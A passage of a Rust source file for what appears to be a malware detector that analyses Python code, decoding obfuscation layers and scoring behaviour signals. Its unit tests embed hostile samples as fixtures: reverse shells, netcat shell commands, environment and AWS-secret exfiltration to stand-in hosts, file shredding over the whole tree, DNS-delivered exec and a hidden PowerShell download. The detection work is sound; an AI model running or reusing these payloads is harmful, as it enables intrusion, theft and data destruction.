                            if let Some(ch) = parse_int(n).and_then(char::from_u32) {
                                let mut b4 = [0u8; 4];
                                chr_buf.extend_from_slice(ch.encode_utf8(&mut b4).as_bytes());
                            }
                            i += 4;
                            continue;
                        }
                    } else if !matches!(&id[..], b"join" | b"for" | b"in" | b"c" | b"x" | b"i") {
                        flush_codes(&mut chr_buf, acc, found);
                    }
                    // Dotted chain a.b.c
                    let mut j = i;
                    let mut parts_buf: [&[u8]; 9] = [id; 9];
                    let mut np = 1;
                    while let (Some(Tok::Op(b'.')), Some(Tok::Ident(n))) =
                        (toks.get(j + 1), toks.get(j + 2))
                    {
                        parts_buf[np] = n;
                        np += 1;
                        j += 2;
                        if np >= parts_buf.len() {
                            break;
                        }
                    }
                    let parts = &parts_buf[..np];
                    acc.idents += parts.len();
                    if depth == 0 {
                        acc.top_idents += parts.len();
                        match parts[0] {
                            b"def" => acc.defs += 1,
                            b"self" | b"cls" => acc.selfs += 1,
                            b"assert" | b"mock" | b"pytest" | b"unittest" | b"monkeypatch"
                            | b"fixture" | b"assertEqual" | b"assertTrue" | b"patch" => {
                                acc.tests += 1
                            }
                            _ => {}
                        }
                        if parts.len() > 1 && parts[1].starts_with(b"assert") {
                            acc.tests += 1;
                        }
                    }
                    for p in parts {
                        if looks_obfuscated_ident(p) {
                            acc.obf_idents += 1;
                        }
                        if p.iter().any(|&c| c >= 0x80) {
                            acc.nonascii_idents += 1;
                        }
                        if p.len() <= 32 {
                            lower_into(&mut low, p);
                            acc.emit("n", &[&low]);
                        }
                    }
                    let first = parts[0];
                    if first == b"import" || first == b"from" {
                        // import a.b, c  /  from a.b import x, y
                        let mut k = i + 1;
                        let mut module: Vec<u8> = Vec::new();
                        let mut after_import = first == b"import";
                        while k < toks.len() && k < i + 40 {
                            match &toks[k] {
                                Tok::Ident(n) if *n == b"import" => after_import = true,
                                Tok::Ident(n) if *n == b"as" => {
                                    k += 1;
                                }
                                Tok::Ident(n) => {
                                    lower_into(&mut low, n);
                                    if first == b"from" && !after_import {
                                        if module.is_empty() {
                                            module = low.clone();
                                            acc.emit("imp", &[&module]);
                                        }
                                    } else if first == b"from" {
                                        acc.emit("d", &[&module, &low]);
                                    } else if !matches!(toks.get(k - 1), Some(Tok::Op(b'.'))) {
                                        acc.emit("imp", &[&low]);
                                    }
                                }
                                Tok::Op(b'.' | b',' | b'(' | b')' | b'*') => {}
                                _ => break,
                            }
                            k += 1;
                        }
                    }
                    last2.clear();
                    {
                        let s = if parts.len() >= 2 {
                            &parts[parts.len() - 2..]
                        } else {
                            parts
                        };
                        for (n, p) in s.iter().enumerate() {
                            if n > 0 {
                                last2.push(b'.');
                            }
                            last2.extend(p.iter().take(32).map(|c| c.to_ascii_lowercase()));
                        }
                    }
                    if parts.len() >= 2 {
                        acc.emit("d", &[&last2]);
                    }
                    match (toks.get(j + 1), toks.get(j + 2), toks.get(j + 3)) {
                        (Some(Tok::Op(b'(')), _, _) => {
                            acc.emit("c", &[&last2]);
                            if !prev_call.is_empty() {
                                acc.emit("cc", &[&prev_call, &last2]);
                            }
                            std::mem::swap(&mut prev_call, &mut last2);
                        }
                        (Some(Tok::Op(b'=')), nxt, _)
                            if paren > 0 && !matches!(nxt, Some(Tok::Op(b'='))) =>
                        {
                            lower_into(&mut low, parts[parts.len() - 1]);
                            acc.emit("kw", &[&low]);
                            if let Some(Tok::Ident(v)) = nxt {
                                if v.len() <= 16 {
                                    lower_into(&mut low2, v);
                                    acc.emit("kwv", &[&low, &low2]);
                                }
                            }
                        }
                        _ => {}
                    }
                    i = j + 1;
                    continue;
                }
            }
            i += 1;
        }
        if str_open {
            self.string(&str_buf, str_is_bytes, depth, acc, found);
        }
        flush_codes(&mut chr_buf, acc, found);
        flush_codes(&mut int_buf, acc, found);
    }

    fn string(&self, s: &[u8], _is_bytes: bool, depth: u32, acc: &mut Acc, found: &mut Found<'_>) {
        if s.len() >= 64 {
            let e = decode::entropy(&s[..s.len().min(4096)]);
            if e > acc.max_entropy {
                acc.max_entropy = e;
            }
        }
        if s.len() >= decode::MIN_ENCODED_LEN {
            let enc = decode::looks_base64(s) || decode::looks_hex(s);
            if enc {
                acc.longest_encoded = acc.longest_encoded.max(s.len());
                acc.encoded_bytes += s.len();
                let bucket = (usize::BITS - s.len().leading_zeros()).min(24);
                acc.emit("enc", &[format!("len2^{bucket}").as_bytes()]);
                if let Some((d, k)) = decode::decode_literal(s, self.limits.max_decoded) {
                    found(d, depth + 1, k, acc);
                    return;
                }
            }
            // Encoded runs inside longer strings (`powershell -enc <base64>`, `echo <b64> | base64 -d`).
            let mut runs = 0;
            let mut k = 0;
            while !enc && k < s.len() && runs < 8 {
                if decode::is_b64_char(s[k]) {
                    let st = k;
                    while k < s.len() && decode::is_b64_char(s[k]) {
                        k += 1;
                    }
                    while k < s.len() && s[k] == b'=' {
                        k += 1;
                    }
                    if k - st >= 40 {
                        runs += 1;
                        let run = &s[st..k];
                        acc.longest_encoded = acc.longest_encoded.max(run.len());
                        acc.encoded_bytes += run.len();
                        if let Some((d, kind)) =
                            decode::decode_literal(run, self.limits.max_decoded)
                        {
                            found(d, depth + 1, kind, acc);
                        }
                    }
                } else {
                    k += 1;
                }
            }
            // Text that contains code (escaped code, exec strings): analyse as a layer too.
            if depth < self.limits.max_depth
                && s.len() >= 32
                && (memchr_sub(s, b"import ")
                    || memchr_sub(s, b"exec(")
                    || memchr_sub(s, b"__import__"))
            {
                found(s.to_vec(), depth + 1, LayerKind::Escapes, acc);
            }
        }
        // URL parts.
        let mut rest = s;
        let mut guard = 0;
        while let Some(p) = find_sub(rest, b"://") {
            guard += 1;
            if guard > 16 {
                break;
            }
            let scheme_start = rest[..p]
                .iter()
                .rposition(|c| !c.is_ascii_alphanumeric() && *c != b'+')
                .map_or(0, |x| x + 1);
            let mut low = Vec::new();
            lower_into(&mut low, &rest[scheme_start..p]);
            if low.len() <= 16 {
                acc.emit("url", &[&low]);
            }
            let host_start = p + 3;
            let host_end = rest[host_start..]
                .iter()
                .position(|c| matches!(c, b'/' | b':' | b'?' | b'\'' | b'"' | b' ' | b'\n'))
                .map_or(rest.len(), |x| host_start + x);
            let host = &rest[host_start..host_end];
            if is_ipv4(host) && !host.starts_with(b"127.") && host != b"0.0.0.0" {
                acc.ip_host = true;
                acc.emit("url", &[b"ip-host"]);
            }
            if let Some(dot) = host.iter().rposition(|&c| c == b'.') {
                let tld = &host[dot + 1..];
                if tld.len() <= 12 && tld.iter().all(|c| c.is_ascii_alphabetic()) {
                    lower_into(&mut low, tld);
                    acc.emit("tld", &[&low]);
                }
            }
            rest = &rest[host_end.min(rest.len())..];
        }
        if is_ipv4(s.trim_ascii()) && !s.starts_with(b"127.") && s.trim_ascii() != b"0.0.0.0" {
            acc.ip_host = true;
            acc.emit("str", &[b"ipv4"]);
        }
        if s.first() == Some(&b'/') || s.starts_with(b"~/") {
            let comp_end = s
                .get(2..)
                .unwrap_or_default()
                .iter()
                .position(|&c| c == b'/' || c == b' ')
                .map_or(s.len(), |x| x + 2);
            let mut low = Vec::new();
            lower_into(&mut low, &s[..comp_end.min(s.len()).min(40)]);
            acc.emit("path", &[&low]);
        }
        // Words.
        let mut count = 0;
        let mut low = Vec::new();
        for w in s.split(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-')) {
            if w.len() < 2 {
                continue;
            }
            count += 1;
            if count > 128 {
                break;
            }
            if w.len() > 24 {
                acc.emit("s", &[b"<long>"]);
            } else {
                lower_into(&mut low, w);
                acc.emit("s", &[&low]);
            }
        }
    }
}

/// Parses `[e1, e2, ...]` starting at `toks[start] == '['` where every element is a constant
/// integer expression (numbers, `+ - * // % << >> | & ^ ~`, parentheses). Returns the values and
/// the index of the closing `]`. Bounded: at most 100k elements, nesting depth 32.
fn const_int_list(toks: &[Tok], start: usize) -> Option<(Vec<i64>, usize)> {
    let mut vals = Vec::new();
    let mut p = start + 1;
    loop {
        if vals.len() > 100_000 {
            return None;
        }
        let mut ev = ConstEval {
            toks,
            pos: p,
            depth: 0,
        };
        let v = ev.or()?;
        vals.push(v);
        p = ev.pos;
        match toks.get(p) {
            Some(Tok::Op(b',')) => {
                p += 1;
                if matches!(toks.get(p), Some(Tok::Op(b']'))) {
                    return Some((vals, p));
                }
            }
            Some(Tok::Op(b']')) => return Some((vals, p)),
            _ => return None,
        }
    }
}

struct ConstEval<'t, 'a> {
    toks: &'t [Tok<'a>],
    pos: usize,
    depth: u32,
}

impl ConstEval<'_, '_> {
    fn op(&self, k: usize) -> Option<u8> {
        match self.toks.get(self.pos + k) {
            Some(Tok::Op(c)) => Some(*c),
            _ => None,
        }
    }
    fn or(&mut self) -> Option<i64> {
        self.depth += 1;
        if self.depth > 32 {
            return None;
        }
        let mut v = self.xor()?;
        while self.op(0) == Some(b'|') {
            self.pos += 1;
            v |= self.xor()?;
        }
        self.depth -= 1;
        Some(v)
    }
    fn xor(&mut self) -> Option<i64> {
        let mut v = self.and()?;
        while self.op(0) == Some(b'^') {
            self.pos += 1;
            v ^= self.and()?;
        }
        Some(v)
    }
    fn and(&mut self) -> Option<i64> {
        let mut v = self.shift()?;
        while self.op(0) == Some(b'&') {
            self.pos += 1;
            v &= self.shift()?;
        }
        Some(v)
    }
    fn shift(&mut self) -> Option<i64> {
        let mut v = self.add()?;
        loop {
            match (self.op(0), self.op(1)) {
                (Some(b'<'), Some(b'<')) => {
                    self.pos += 2;
                    let r = self.add()?;
                    v = if (0..48).contains(&r) {
                        v.checked_mul(1i64 << r)?
                    } else {
                        return None;
                    };
                }
                (Some(b'>'), Some(b'>')) => {
                    self.pos += 2;
                    let r = self.add()?;
                    v = if (0..64).contains(&r) {
                        v >> r
                    } else {
                        return None;
                    };
                }
                _ => return Some(v),
            }
        }
    }
    fn add(&mut self) -> Option<i64> {
        let mut v = self.mul()?;
        loop {
            match self.op(0) {
                Some(b'+') => {
                    self.pos += 1;
                    v = v.checked_add(self.mul()?)?;
                }
                Some(b'-') => {
                    self.pos += 1;
                    v = v.checked_sub(self.mul()?)?;
                }
                _ => return Some(v),
            }
        }
    }
    fn mul(&mut self) -> Option<i64> {
        let mut v = self.unary()?;
        loop {
            match (self.op(0), self.op(1)) {
                (Some(b'*'), Some(b'*')) => return None,
                (Some(b'*'), _) => {
                    self.pos += 1;
                    v = v.checked_mul(self.unary()?)?;
                }
                (Some(b'/'), Some(b'/')) => {
                    self.pos += 2;
                    v = v.checked_div(self.unary()?)?;
                }
                (Some(b'%'), _) => {
                    self.pos += 1;
                    v = v.checked_rem(self.unary()?)?;
                }
                _ => return Some(v),
            }
        }
    }
    fn unary(&mut self) -> Option<i64> {
        self.depth += 1;
        if self.depth > 48 {
            return None;
        }
        let v = self.unary_inner();
        self.depth -= 1;
        v
    }
    fn unary_inner(&mut self) -> Option<i64> {
        match self.op(0) {
            Some(b'-') => {
                self.pos += 1;
                self.unary()?.checked_neg()
            }
            Some(b'+') => {
                self.pos += 1;
                self.unary()
            }
            Some(b'~') => {
                self.pos += 1;
                Some(!self.unary()?)
            }
            Some(b'(') => {
                self.pos += 1;
                let v = self.or()?;
                if self.op(0) != Some(b')') {
                    return None;
                }
                self.pos += 1;
                Some(v)
            }
            _ => match self.toks.get(self.pos) {
                Some(Tok::Num(n)) => {
                    self.pos += 1;
                    parse_int(n).map(i64::from)
                }
                _ => None,
            },
        }
    }
}

fn find_sub(h: &[u8], n: &[u8]) -> Option<usize> {
    memchr::memmem::find(h, n)
}

fn memchr_sub(h: &[u8], n: &[u8]) -> bool {
    find_sub(h, n).is_some()
}

/// Dense signals that describe the file as a whole (code style) rather than a behaviour.
const FILE_CONTEXT_SIGNALS: &[&str] =
    &["s:def_rate", "s:self_rate", "s:test_rate", "s:indent_rate"];

/// Replaces the file-context signals of a window's vector by those of the whole file.
pub fn with_file_context(window: &mut FeatureVector, whole: &FeatureVector) {
    for name in FILE_CONTEXT_SIGNALS {
        let i = combo(name) as u32;
        let v = whole.idx.binary_search(&i).map_or(0.0, |k| whole.val[k]);
        match window.idx.binary_search(&i) {
            Ok(k) if v != 0.0 => window.val[k] = v,
            Ok(k) => {
                window.idx.remove(k);
                window.val.remove(k);
            }
            Err(k) if v != 0.0 => {
                window.idx.insert(k, i);
                window.val.insert(k, v);
            }
            Err(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn radix_sort_of_indices_sorts() {
        // xorshift64: any fixed pseudo-random sequence does.
        let mut r = 5u64;
        let mut below = |n: usize| {
            r ^= r << 13;
            r ^= r >> 7;
            r ^= r << 17;
            (r % n as u64) as usize
        };
        for n in [0usize, 1, 100, 4095, 4096, 50_000] {
            let mut v: Vec<u32> = (0..n).map(|_| below(DIM) as u32).collect();
            let mut want = v.clone();
            want.sort_unstable();
            sort_indices(&mut v);
            assert_eq!(v, want, "n = {n}");
        }
    }

    fn has_signal(a: &Analysis, name: &str) -> bool {
        let i = (0..N_SIGNALS).find(|&i| signal_name(i) == name).unwrap() as u32;
        a.features.idx.contains(&i)
    }

    #[test]
    fn windows_carry_the_file_context() {
        let t = signal_index("s:test_rate");
        let d = signal_index("s:def_rate");
        let whole = FeatureVector {
            idx: vec![t],
            val: vec![2.5],
        };
        let mut w = FeatureVector {
            idx: vec![d, t, N_SIGNALS as u32 + 7],
            val: vec![1.0, 0.1, 1.0],
        };
        with_file_context(&mut w, &whole);
        assert_eq!(w.idx, vec![t, N_SIGNALS as u32 + 7]);
        assert_eq!(w.val, vec![2.5, 1.0]);
        // A test module with a reverse shell appended: the window is scored, with test context.
        let mut text = String::new();
        while text.len() < 40_000 {
            text.push_str("class TestStore(unittest.TestCase):\n    def test_get(self):\n        self.assertEqual(get(1), 1)\n\n");
        }
        text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n");
        let ex = Extractor::new();
        let f = ex.analyze(text.as_bytes()).features;
        let ws = ex.windows_in_context(text.as_bytes(), &f);
        assert!(!ws.is_empty());
        let tv = |fv: &FeatureVector| fv.idx.binary_search(&t).map_or(0.0, |k| fv.val[k]);
        assert!(ws.iter().all(|(_, w)| tv(w) == tv(&f)));
    }

    #[test]
    fn reverse_shell_signals() {
        let a = Extractor::new().analyze(
            b"import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
        );
        assert!(a.not_python.is_none());
        assert!(has_signal(&a, "c:revshell"));
        assert!(has_signal(&a, "g:dup2"));
    }

    #[test]
    fn behaviours_must_be_near_each_other() {
        // Socket and shell within a few lines: a reverse shell.
        let near = b"import socket,subprocess\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\n";
        assert!(has_signal(&Extractor::new().analyze(near), "c:revshell"));
        assert!(has_signal(
            &Extractor::new().analyze(near),
            "c:any_behaviour"
        ));
        // The same parts far apart in a large file (a library with a socket helper at the top and
        // a shell helper at the bottom): no combination.
        let mut far =
            b"import socket\ndef connect(h, p):\n    return socket.create_connection((h, p))\n"
                .to_vec();
        for i in 0..400 {
            far.extend_from_slice(format!("def helper_{i}(x):\n    return x + {i}\n").as_bytes());
        }
        far.extend_from_slice(b"def interactive():\n    pty.spawn('/bin/sh')\n");
        let a = Extractor::new().analyze(&far);
        assert!(!has_signal(&a, "c:revshell"));
        assert!(!has_signal(&a, "c:any_behaviour"));
    }

    #[test]
    fn overlapping_and_quoted_patterns() {
        // `os.environ.items` counts for both `os.environ` and `environ.items`.
        let a = Extractor::new().analyze(
            b"import os, requests\nrequests.post('https://x.example/c', json=dict(os.environ.items()))\n",
        );
        assert!(has_signal(&a, "g:environ"));
        assert!(has_signal(&a, "g:environ_all"));
        assert!(has_signal(&a, "c:env_dump_send"));
        // Patterns written with single quotes also match double-quoted code.
        let a = Extractor::new().analyze(b"import subprocess\nsubprocess.Popen([\"nc\", \"-e\", \"/bin/sh\", \"10.1.2.3\", \"9001\"])\n");
        assert!(has_signal(&a, "c:revshell_cmd"));
        assert_eq!(
            signal_name(signal_index("c:revshell_cmd") as usize),
            "c:revshell_cmd"
        );
    }

    #[test]
    fn style_rates() {
        let mut lib = String::from("class Client:\n");
        for i in 0..20 {
            lib.push_str(&format!(
                "    def get_{i}(self, key):\n        return self.store[key]\n"
            ));
        }
        let a = Extractor::new().analyze(lib.as_bytes());
        assert!(has_signal(&a, "s:def_rate"));
        assert!(has_signal(&a, "s:self_rate"));
        assert!(has_signal(&a, "s:indent_rate"));
    }

    #[test]
    fn base64_layer_is_decoded() {
        // exec(base64.b64decode("import socket,os,pty; os.dup2(1,0)"))
        let a = Extractor::new()
            .analyze(b"import base64\nexec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7IG9zLmR1cDIoMSwwKQ=='))\n");
        assert_eq!(a.layers, 1);
        assert!(has_signal(&a, "c:exec_decoded"));
        assert!(has_signal(&a, "c:layer_code"));
        assert!(has_signal(&a, "g:dup2"));
    }

    #[test]
    fn chr_join_is_decoded() {
        let code = "import os";
        let mut s = String::from("exec(''.join([");
        for (k, c) in code.chars().enumerate() {
            if k > 0 {
                s.push(',');
            }
            s.push_str(&format!("chr({})", c as u32));
        }
        s.push_str("]))");
        let a = Extractor::new().analyze(s.as_bytes());
        assert_eq!(a.layers, 1, "{s}");
    }

    #[test]
    fn arithmetic_char_codes_are_decoded() {
        // [((1 << 4) - 1) << 3) - 1 ...] style: 'w','i','n','3','2','x','y','z'
        let src = b"x = ''.join(map(chr, [(((1 << 4) - 1) << 3) - 1, 105, (7 << 4) - (1 << 1), 51, 50, 0x78, 121, 122]))";
        let a = Extractor::new().analyze(src);
        assert_eq!(a.layers, 1);
        assert!(has_signal(&a, "s:ints_layer"));
    }

    #[test]
    fn powershell_encoded_command_is_decoded() {
        let src = b"import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAcwA6AC8ALwBkAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBzAC8AeAAvAEUAcwBxAHUAZQBsAGUALgBlAHgAZQAiACAALQBPAHUAdABGAGkAbABlACAAIgB+AC8AVwBpAG4AZABvAHcAcwBDAGEAYwBoAGUALgBlAHgAZQAiADsAIABJAG4AdgBvAGsAZQAtAEUAeABwAHIAZQBzAHMAaQBvAG4AIAAiAH4ALwBXAGkAbgBkAG8AdwBzAEMAYQBjAGgAZQAuAGUAeABlACIA', shell=False, creationflags=subprocess.CREATE_NO_WINDOW)\n";
        let a = Extractor::new().analyze(src);
        assert_eq!(a.layers, 1);
        assert!(has_signal(&a, "g:download"));
    }

    #[test]
    fn binary_is_not_python() {
        assert!(Extractor::new()
            .analyze(b"\x7fELF\x02\x01")
            .not_python
            .is_some());
        assert!(Extractor::new().analyze(b"").not_python.is_some());
        assert!(Extractor::new()
            .analyze(&[0u8, 1, 2, 3, 200, 201])
            .not_python
            .is_some());
    }

    #[test]
    fn named_features() {
        let a = Extractor::new().analyze(b"import os\nos.system('id')\n");
        let want: Vec<u32> = a
            .features
            .idx
            .iter()
            .copied()
            .filter(|&i| i as usize >= N_SIGNALS)
            .collect();
        let b = Extractor::new().analyze_named(b"import os\nos.system('id')\n", &want);
        assert!(b.names.values().any(|n| n == "c:os.system"));
        assert_eq!(a.features, b.features);
    }

    #[test]
    fn part_only_groups_count_in_combinations_only() {
        let ex = Extractor::new();
        // Secrets hex-encoded into DNS look-ups.
        let a = ex.analyze(
            b"import os, socket, binascii\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n\
              h = binascii.hexlify(k.encode()).decode()\nsocket.gethostbyname(h + '.x.example')\n",
        );
        assert!(has_signal(&a, "c:dns_exfil"));
        assert!(!has_signal(&a, "g:dns"));
        assert!(!has_signal(&a, "g:encode_out"));
        // A plain look-up and an encoder are neither.
        let b = ex.analyze(
            b"import socket, base64\nprint(socket.gethostbyname('example.org'))\n\
              print(base64.b64encode(b'x'))\n",
        );
        assert!(!has_signal(&b, "c:dns_exfil"));
        assert!(!has_signal(&b, "c:any_behaviour"));
        // Overwrite with random bytes and delete, over a tree.
        let c = ex.analyze(
            b"import os\nfor r, _, fs in os.walk('/'):\n    for f in fs:\n        p = os.path.join(r, f)\n\
              \x20       open(p, 'r+b').write(os.urandom(4096))\n        os.unlink(p)\n",
        );
        assert!(has_signal(&c, "c:shred"));
        // Code from a DNS TXT record.
        let d = ex.analyze(
            b"import dns.resolver, base64\nt = dns.resolver.resolve('x.example', 'TXT')\n\
              exec(base64.b64decode(b''.join(t[0].strings)))\n",
        );
        assert!(has_signal(&d, "c:dns_exec"));
    }

    #[test]
    fn keyboard_module_hooks_are_spying() {
        for t in [
            &b"import keyboard\nkeyboard.on_release(lambda e: log.append(e.name))\n"[..],
            b"import keyboard\nev = keyboard.record(until='esc')\n",
            b"import keyboard\nkeyboard.hook(cb)\n",
        ] {
            assert!(has_signal(&Extractor::new().analyze(t), "g:spy"));
        }
    }
}
